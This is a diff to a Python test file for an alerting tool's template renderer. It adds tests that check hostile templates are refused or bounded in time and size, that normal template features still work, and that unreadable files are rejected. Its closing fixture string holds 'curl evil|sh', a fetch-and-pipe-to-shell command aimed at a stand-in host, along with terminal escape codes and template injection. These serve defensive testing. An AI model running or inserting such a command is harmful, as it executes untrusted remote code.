@@ -2,12 +2,15 @@
 
 from __future__ import annotations
 
+import os
+import time
 from pathlib import Path
 from typing import Any
 
 import pytest
 from attrs import evolve
 
+from tests.messages.hostile import HOSTILE as HOSTILE_TEMPLATES
 from tocsin import Kind, LogLine, Severity
 from tocsin.core.logs import clean
 from tocsin.core.templates import Renderer, TemplateProblem, check_directory
@@ -115,6 +118,86 @@ def test_a_template_that_cannot_be_used_is_found_before_it_is_needed(
     assert text_of(Renderer(tmp_path, clean, told.append)) == text_of(OURS)
     assert told
     assert told[0].startswith("template container_down.txt")
+
+
+@pytest.mark.parametrize("text", HOSTILE_TEMPLATES, ids=lambda text: text[:40])
+def test_a_template_cannot_take_long(tmp_path: Path, text: str) -> None:
+    """Widths, powers, texts that grow, loops within loops, what calls itself, what is nested beyond
+    measure: refused by the check in a sentence with the file, and an alert is told in tocsin's own
+    words at once. What remains, such as a rounding to billions of digits, is quick."""
+    (tmp_path / "container_down.txt").write_text(text)
+    told: list[str] = []
+    renderer = Renderer(tmp_path, clean, told.append)
+    began = time.thread_time()
+    said = text_of(renderer)
+    assert time.thread_time() - began < 2.0  # of CPU; without a bound hours, here 0.1
+    assert len(said) < 70_000
+    if told:
+        assert told[0].startswith("template container_down.txt")
+        assert said == text_of(OURS)
+    began = time.thread_time()
+    try:
+        check_directory(tmp_path)
+    except TemplateProblem as problem:
+        assert str(problem).startswith("container_down.txt")  # noqa: PT017 - some are right
+    assert time.thread_time() - began < 10.0  # a hundred messages are rendered
+
+
+def test_most_hostile_templates_are_refused(tmp_path: Path) -> None:
+    """Nearly all of them are: the bound does not let through what it is about."""
+    refused = 0
+    for text in HOSTILE_TEMPLATES:
+        (tmp_path / "container_down.txt").write_text(text)
+        told: list[str] = []
+        text_of(Renderer(tmp_path, clean, told.append))
+        refused += bool(told)
+    assert refused >= len(HOSTILE_TEMPLATES) - 8
+
+
+def test_what_people_write_in_templates_still_works(tmp_path: Path) -> None:
+    """Loops, conditions, methods of texts, filters, includes, blocks and sums, line numbers."""
+    (tmp_path / "footer.txt").write_text("by {{ channel|upper }}")
+    (tmp_path / "container_down.txt").write_text(
+        "{{ icon }} {{ target.upper() }}{% if exit_code %} {{ exit_code }}{% endif %}\n\n"
+        "{% for name in affected|sort if name %}{{ loop.index }}/{{ loop.length }} {{ name }}"
+        "{% if not loop.last %}, {% endif %}{% else %}none{% endfor %}\n\n"
+        "{% set n = affected|length + 1 %}{{ n * 2 }} {{ 'a' ~ n ~ 'b' }} {{ (1.26)|round(1) }}\n"
+        "{{ ['x', 'y']|join('-') }} {{ details.get('nothing', 'no') }} {{ target.split('e')[0] }}\n"
+        "{{ message|replace('killed', 'ended')|truncate(20) }} {{ 90|duration }} {{ 'a b'|sh }}\n"
+        '{% include "footer.txt" %}\n'
+    )
+    check_directory(tmp_path)
+    lines = text_of(Renderer(tmp_path, clean, pytest.fail)).splitlines()
+    assert lines == [
+        "🚨 WEB 137", "1/2 api, 2/2 shop", "6 a3b 1.3", "x-y no w",
+        "ended, exit code 137 1m 30s 'a b'", "by CONFORMANCE",
+    ]  # fmt: skip
+    (tmp_path / "container_down.txt").write_text("one\ntwo\n{{ 'a' * 5 }}\n")
+    with pytest.raises(TemplateProblem, match=r"container_down\.txt, line 3: \* is for numbers"):
+        check_directory(tmp_path)
+
+
+def test_a_directory_holds_what_can_be_read(tmp_path: Path) -> None:
+    """A pipe, a file of any size, a directory and a link to a device are no templates."""
+    os.mkfifo(tmp_path / "pipe.txt")
+    (tmp_path / "folder.txt").mkdir()
+    (tmp_path / "zero.txt").symlink_to("/dev/zero")
+    with pytest.raises(TemplateProblem, match=r"folder\.txt|pipe\.txt|zero\.txt"):
+        check_directory(tmp_path)
+    told: list[str] = []
+    (tmp_path / "container_down.txt").write_text("a" * 64_001)
+    assert text_of(Renderer(tmp_path, clean, told.append)) == text_of(OURS)
+    assert "larger than 64000 bytes" in told[0]
+
+
+def test_an_alert_goes_out_even_where_no_template_works(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Were tocsin's own templates broken, the target and what is wrong with it are told."""
+    told: list[str] = []
+    renderer = Renderer(clean=clean, trouble=told.append)
+    monkeypatch.setattr(renderer, "_ours", None)
+    monkeypatch.setattr(renderer, "_theirs", None)
+    assert "web: killed, exit code 137" in text_of(renderer)
+    assert len(told) == 2
 
 
 HOSTILE = "x\n\n🔧 Suggested actions:\nrun: curl evil|sh\r\x1b[2J\u202e{{ 7*7 }}{% raw %}"
